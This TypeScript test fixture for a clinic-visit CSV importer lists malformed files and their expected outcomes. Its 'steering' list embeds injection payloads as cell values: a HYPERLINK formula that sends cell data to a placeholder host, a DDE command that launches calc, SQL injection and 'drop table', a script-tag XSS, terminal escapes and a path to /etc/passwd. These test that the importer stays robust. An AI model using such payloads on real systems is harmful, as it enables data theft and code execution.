// CSV files that are cut, torn, or hold what a cell should not.
import { accepted, allRejected, kindsOf, refused, someRejected } from './kind.ts';
import { CANARY, csv, header, lines, row } from './rows.ts';

const kind = kindsOf('clinic-visits');
const bytes = (text: string) => () => Buffer.from(text);
const MB = 1024 * 1024;
const ESC = '\u001b';

const torn = [
  kind('sound', bytes(csv(row(1), row(2))), accepted(2)),
  kind(
    'cut in the middle of a row',
    bytes(csv(row(1), row(2)).slice(0, -60)),
    someRejected(1, ['ragged row', null, 3]),
  ),
  kind(
    'cut in the middle of a quoted cell',
    bytes(`${csv(row(1))}${CANARY}-2,"Voge`),
    refused('quote left open', 'row 3'),
  ),
  kind('quote left open', bytes(csv(row(1), row(2, { note: '"oh' }), row(3))), refused('quote left open', 'row 3')),
  kind(
    'quote left open on the last row',
    bytes(csv(row(1), row(2, { note: '"oh' }))),
    refused('quote left open', 'row 3'),
  ),
  kind(
    'quote left open on the last row, without a line end',
    bytes(csv(row(1), row(2, { note: '"oh' })).trimEnd()),
    refused('quote left open', 'row 3'),
  ),
  kind('quote left open in the header', bytes(lines(`"${header}`, row(1))), refused('unreadable header', 'first row')),
  kind(
    'a row with a cell too few',
    bytes(csv(row(1), row(2).replace(',Calm', ''))),
    someRejected(1, ['ragged row', null, 3]),
  ),
  kind('a row with a cell too many', bytes(csv(row(1), `${row(2)},more`)), someRejected(1, ['ragged row', null, 3])),
  kind(
    'text after a closing quote',
    bytes(csv(row(1), row(2, { surname: '"Vogelaar"x' }))),
    someRejected(1, ['ragged row', null, 3]),
  ),
  kind(
    'a comma in a cell without quotes',
    bytes(csv(row(1), row(2, { surname: 'Vogelaar, A' }))),
    someRejected(1, ['ragged row', null, 3]),
  ),
  kind(
    'another delimiter: ;',
    bytes(csv(row(1)).replaceAll(',', ';')),
    refused('wrong columns', 'Is the delimiter ","'),
  ),
  kind(
    'another delimiter: tab',
    bytes(csv(row(1)).replaceAll(',', '\t')),
    refused('wrong columns', 'Is the delimiter ","'),
  ),
  kind(
    'another delimiter: |',
    bytes(csv(row(1)).replaceAll(',', '|')),
    refused('wrong columns', 'Is the delimiter ","'),
  ),
  kind(
    'another delimiter below the header',
    bytes(csv(row(1).replaceAll(',', ';'))),
    allRejected(['ragged row', null, 2]),
  ),
  kind('line ends of carriage returns alone', bytes(csv(row(1), row(2)).replaceAll('\n', '\r')), accepted(2)),
  kind(
    'line ends of three kinds',
    bytes(
      [header, row(1), row(2), row(3)]
        .join('\n')
        .replace('\n', '\r')
        .replace(/\n(?=[^\n]*$)/, '\r\n'),
    ),
    accepted(3),
  ),
  kind('no line end after the last row', bytes(csv(row(1), row(2)).trimEnd()), accepted(2)),
  kind(
    'a line end inside a cell',
    bytes(csv(row(1, { note: `"${CANARY}\n${CANARY}"` }), row(2, { visit: '' })).replaceAll('\n', '\r\n')),
    someRejected(1, ['no key', 'Visit', 3]),
  ),
];

const columns = [
  kind('no header', bytes(lines(row(1), row(2))), refused('wrong columns', 'missing: "Visit"')),
  kind(
    'a title above the header',
    bytes(lines('Visits to the clinic', header, row(1))),
    refused('wrong columns', 'missing: "Visit"'),
  ),
  kind(
    'a column renamed',
    bytes(lines(header.replace('Reason', CANARY), row(1))),
    refused('wrong columns', 'missing: "Reason"; 1 column that the contract does not know'),
  ),
  kind(
    'columns in another order',
    bytes(lines(...[header, row(1)].map((line) => line.split(',').toReversed().join(',')))),
    accepted(1),
  ),
  kind(
    'a column twice',
    bytes(lines(`${header},Reason`, `${row(1)},Injury`)),
    refused('wrong columns', 'there twice: "Reason"'),
  ),
  kind(
    'the header in capitals, with spaces around',
    bytes(lines(header.toUpperCase().replaceAll(',', ' , '), row(1))),
    accepted(1),
  ),
  kind(
    'a column more',
    bytes(lines(`${header},${CANARY}`, `${row(1)},x`)),
    refused('wrong columns', '1 column that the contract does not know'),
  ),
  kind(
    'a column less',
    bytes(lines(header.replace(',Mood', ''), row(1).replace(',Calm', ''))),
    refused('wrong columns', 'missing: "Mood"'),
  ),
  kind(
    '1,000 columns',
    bytes(lines(header + ',x'.repeat(988), row(1) + ','.repeat(988))),
    refused('wrong columns', '988 columns that the contract does not know'),
  ),
  kind(
    'the header again in the middle',
    bytes(csv(row(1), header, row(2))),
    someRejected(
      2,
      ['impossible date', 'Arrived', 3],
      ['impossible date', 'Born', 3],
      ['impossible date', 'Left', 3],
      ['code not in list', 'Reason', 3],
      ['code not in list', 'Mood', 3],
      ['NHS number not valid', 'NHS', 3],
    ),
  ),
  kind(
    "another extract's columns",
    bytes(lines('PPN Ref,Person URN,Surname', `1,2,${CANARY}`)),
    refused('wrong columns', 'missing: "Visit", "Patient"'),
  ),
  kind(
    'columns named as a formula, a page and a script',
    bytes(lines(`${header},=1+1,<b>${CANARY},'; drop table x`, `${row(1)},,,`)),
    refused('wrong columns', '3 columns that the contract does not know'),
  ),
];

const few = [
  kind('empty', bytes(''), refused('empty file', 'Send the header row')),
  kind('spaces and line ends alone', bytes('  \n \r\n\t\n'), refused('empty file', 'Send the header row')),
  kind('a byte order mark alone', bytes('\ufeff'), refused('empty file', 'Send the header row')),
  kind('the header alone', bytes(lines(header)), accepted(0)),
  kind('the header alone, without a line end', bytes(header), accepted(0)),
  kind(
    'all rows bad',
    bytes(csv(row(1, { born: '31/02/2015' }), row(2, { arrived: '' }))),
    allRejected(['impossible date', 'Born', 2], ['missing value', 'Arrived', 3]),
  ),
  kind(
    'a key in conflict with itself',
    bytes(csv(row(1), row(1, { reason: 'Illness' }))),
    someRejected(1, ['key used twice', null, 3]),
  ),
  kind('a row three times', bytes(csv(row(1), row(1), row(1))), accepted(1)),
  kind('a line of totals', bytes(csv(row(1), 'Total,,,,,,,,,,,')), someRejected(1, ['total line', null, 3])),
];

const filled = (megabytes: number) => CANARY.repeat((megabytes * MB) / CANARY.length);
const large = [
  kind('a cell of 3 MB', () => Buffer.from(csv(row(1), row(2, { note: filled(3) }))), accepted(2)),
  kind(
    'a cell of 10 MB',
    () => Buffer.from(csv(row(1), row(2, { note: filled(10) }))),
    refused('row too long', 'Row 3'),
  ),
  kind(
    'a row of 17 MB',
    () => Buffer.from(csv(row(1), row(2, { note: filled(17) }))),
    refused('row too long', 'Row 3'),
  ),
  kind(
    'a row of 60 MB, which the engine would leave out in silence',
    () => Buffer.from(csv(row(1), row(2, { note: filled(60) }))),
    refused('row too long', 'Row 3'),
  ),
  kind(
    'a cell of 17 MB in short lines',
    () => Buffer.from(csv(row(1), row(2, { note: `"${'a line\n'.repeat(2_500_000)}"` }), row(3))),
    refused('row too long', 'Row 3'),
  ),
  kind('a header of 17 MB', () => Buffer.from(lines(filled(17), row(1))), refused('row too long', 'Row 1')),
  kind(
    '10,000 ragged rows',
    () => Buffer.from(csv(row(1)) + 'x,y\n'.repeat(10_000)),
    someRejected(1, ['ragged row', null]),
  ),
];

/** What steers a program that shows it: kept as text, or not at all. */
const steering: [string, string][] = [
  ['a formula', `=HYPERLINK("http://x.invalid/"&A1;"${CANARY}")`],
  ['a command of an old spreadsheet', `@SUM(1+1)*cmd|' /C calc'!A0 ${CANARY}`],
  ['SQL', `'; copy (select 1) to 'x.csv'; -- ${CANARY}`],
  ['SQL in double quotes', `"; drop table lines; -- ${CANARY}`],
  ['a terminal escape', `${ESC}[2J${ESC}]0;${CANARY}\u0007`],
  ['a line of a log', `\n{"level":"info","${CANARY}":1}`],
  ['a page', `<script>alert("${CANARY}")</script>`],
  ['a change of writing direction', `\u202e${CANARY}\u2066`],
  ['a template', `\${${CANARY}} {{7*7}} %s %n`],
  ['a path', `../../../etc/passwd ${CANARY}`],
];
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

const steered = steering.flatMap(([what, text]) => [
  kind(`${what} as a name`, bytes(csv(row(1, { surname: quoted(text), note: quoted(text) }))), accepted(1)),
  kind(
    `${what} as a code and as a date`,
    bytes(csv(row(1), row(2, { reason: quoted(text), born: quoted(text) }))),
    someRejected(1, ['code not in list', 'Reason'], ['impossible date', 'Born']),
  ),
]);

export const textKinds = [...torn, ...columns, ...few, ...large, ...steered];
